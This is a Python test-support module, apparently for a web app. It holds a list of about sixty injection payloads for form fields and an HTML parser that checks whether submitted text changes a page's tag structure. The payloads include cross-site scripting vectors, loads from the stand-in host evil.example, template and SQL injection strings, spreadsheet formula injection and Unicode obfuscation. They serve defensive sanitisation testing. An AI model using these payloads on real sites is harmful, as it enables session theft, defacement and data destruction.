"""Sixty texts that try to become something else than text, for every field that a stranger fills in."""

from html.parser import HTMLParser

# Wherever one of them runs, it sets window.taken or opens a dialog.
PAYLOADS = (
    "<script>window.taken=1</script>",
    "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>window.taken=1</scr</script>ipt>",
    "<img src=x onerror=window.taken=1>",
    "<img src=`x` onerror=alert(1)//",
    "<svg onload=window.taken=1>",
    "<svg><script>window.taken=1</script></svg>",
    "<svg><animate onbegin=window.taken=1 attributeName=x dur=1s>",
    "<math><mtext></form><form><mglyph><style></math><img src onerror=window.taken=1>",
    "<body onload=window.taken=1>",
    "<iframe src=javascript:parent.taken=1></iframe>",
    "<iframe srcdoc='<script>parent.taken=1</script>'></iframe>",
    "<object data=javascript:window.taken=1></object>",
    "<embed src=javascript:window.taken=1>",
    "<a href=javascript:window.taken=1>here</a>",
    "<a href='data:text/html,<script>opener.taken=1</script>'>here</a>",
    "<form action=https://evil.example><input type=submit></form>",
    "<button formaction=javascript:window.taken=1>x</button>",
    "<input autofocus onfocus=window.taken=1>",
    "<textarea autofocus onfocus=window.taken=1></textarea>",
    "<select autofocus onfocus=window.taken=1></select>",
    "<details open ontoggle=window.taken=1>",
    "<video><source onerror=window.taken=1></video>",
    "<audio src=x onerror=window.taken=1>",
    "<marquee onstart=window.taken=1>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<base href=https://evil.example/>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<style>*{display:none}</style>",
    "<style>@import 'https://evil.example/x.css';</style>",
    "<template><script>window.taken=1</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=window.taken=1>'>",
    "<!--><img src=x onerror=window.taken=1>-->",
    "<![CDATA[<img src=x onerror=window.taken=1>]]>",
    "<?xml version='1.0'?><x onclick=window.taken=1>",
    "</textarea><script>window.taken=1</script>",
    "</title><script>window.taken=1</script>",
    "</style><script>window.taken=1</script>",
    "</script><script>window.taken=1</script>",
    '"><script>window.taken=1</script>',
    "'><script>window.taken=1</script>",
    '" onmouseover="window.taken=1" x="',
    "' onfocus='window.taken=1' autofocus x='",
    "` onclick=`window.taken=1",
    "{{ 7 * 7 }}{{ request.user }}",
    "{% for x in ().__class__.__base__.__subclasses__() %}x{% endfor %}",
    "${7*7}#{7*7}<%= 7*7 %>",
    "%(business)s %(num)s %s %d %n",
    "{0.__class__} {name!r}",
    "javascript:window.taken=1//",
    "=HYPERLINK(\"https://evil.example\",\"x\")",
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "'); DROP TABLE reviews_review; --",
    "1' OR '1'='1",
    "Bcc: everyone@evil.example\r\nSubject: won",
    "\u202egnp.exe \u2066hidden\u2069",
    "Z̸̢͎̬͔͙a̵l̶g̷o̶" + "\u0336" * 60,
    "&lt;script&gt;window.taken=1&lt;/script&gt;",
    "&#60;img src=x onerror=window.taken=1&#62;",
    "\ufeff\u200b<img\u00a0src=x\u2028onerror=window.taken=1>",
    "+ADw-script+AD4-window.taken=1+ADw-/script+AD4-",
)  # fmt: skip


class _Skeleton(HTMLParser):
    """Collects what a page is made of besides its words: each tag with the names of its attributes."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.bones: list[tuple[str, tuple[str, ...]]] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.bones.append((tag, tuple(name for name, _value in attrs)))

    def handle_endtag(self, tag: str) -> None:
        self.bones.append((f"/{tag}", ()))

    def handle_comment(self, data: str) -> None:
        self.bones.append(("comment", ()))

    def handle_decl(self, decl: str) -> None:
        self.bones.append(("declaration", ()))

    def handle_pi(self, data: str) -> None:
        self.bones.append(("instruction", ()))


def skeleton(page: str) -> list[tuple[str, tuple[str, ...]]]:
    """What a page is made of besides its words. Text that stays text never changes it."""
    parser = _Skeleton()
    parser.feed(page)
    parser.close()
    return parser.bones
